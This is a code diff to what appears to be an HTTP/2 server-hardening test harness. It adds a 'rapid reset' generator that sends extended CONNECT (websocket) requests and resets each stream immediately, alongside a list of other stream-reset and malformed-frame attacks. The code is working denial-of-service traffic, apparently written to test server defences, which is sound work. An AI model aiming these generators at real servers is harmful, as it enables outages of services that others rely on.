@@ -37,6 +37,13 @@ def rapid_reset_of_uploads(one: Attacker, count: int) -> Iterator[bytes]:
                + frame(RESET, 0, one.stream, b"\0\0\0\x08"))
 
 
+def rapid_reset_of_protocols(one: Attacker, count: int) -> Iterator[bytes]:
+    """Of extended CONNECT (RFC 8441), for which servers switch protocols."""
+    for _ in range(count):
+        yield one.request(path=PATH, flags=END_HEADERS, method="CONNECT", fields=[
+            (":protocol", "websocket")]) + frame(RESET, 0, one.stream, b"\0\0\0\x08")
+
+
 def made_to_reset_by_window(one: Attacker, count: int) -> Iterator[bytes]:
     for _ in range(count):
         yield one.request(path=PATH) + frame(WINDOW, 0, one.stream, b"\0\0\0\0")
@@ -281,8 +288,8 @@ def is_over(one: Attacker) -> bool:
 CONFIGURATION: dict = {"timeouts": {"head": "1s", "body": "2s"}}
 
 ATTACKS = [
-    Attack(rapid_reset), Attack(rapid_reset_of_uploads), Attack(made_to_reset_by_window),
-    Attack(made_to_reset_by_overflow), Attack(made_to_reset_by_data, "none"),
+    Attack(rapid_reset), Attack(rapid_reset_of_uploads), Attack(rapid_reset_of_protocols),
+    Attack(made_to_reset_by_window), Attack(made_to_reset_by_overflow), Attack(made_to_reset_by_data, "none"),
     Attack(made_to_reset_by_priority), Attack(made_to_reset_by_headers, "none"),
     Attack(made_to_reset_by_length), Attack(malformed_heads), Attack(empty_heads),
     Attack(streams_beyond_the_limit, "none"), Attack(continuations), Attack(empty_continuations),
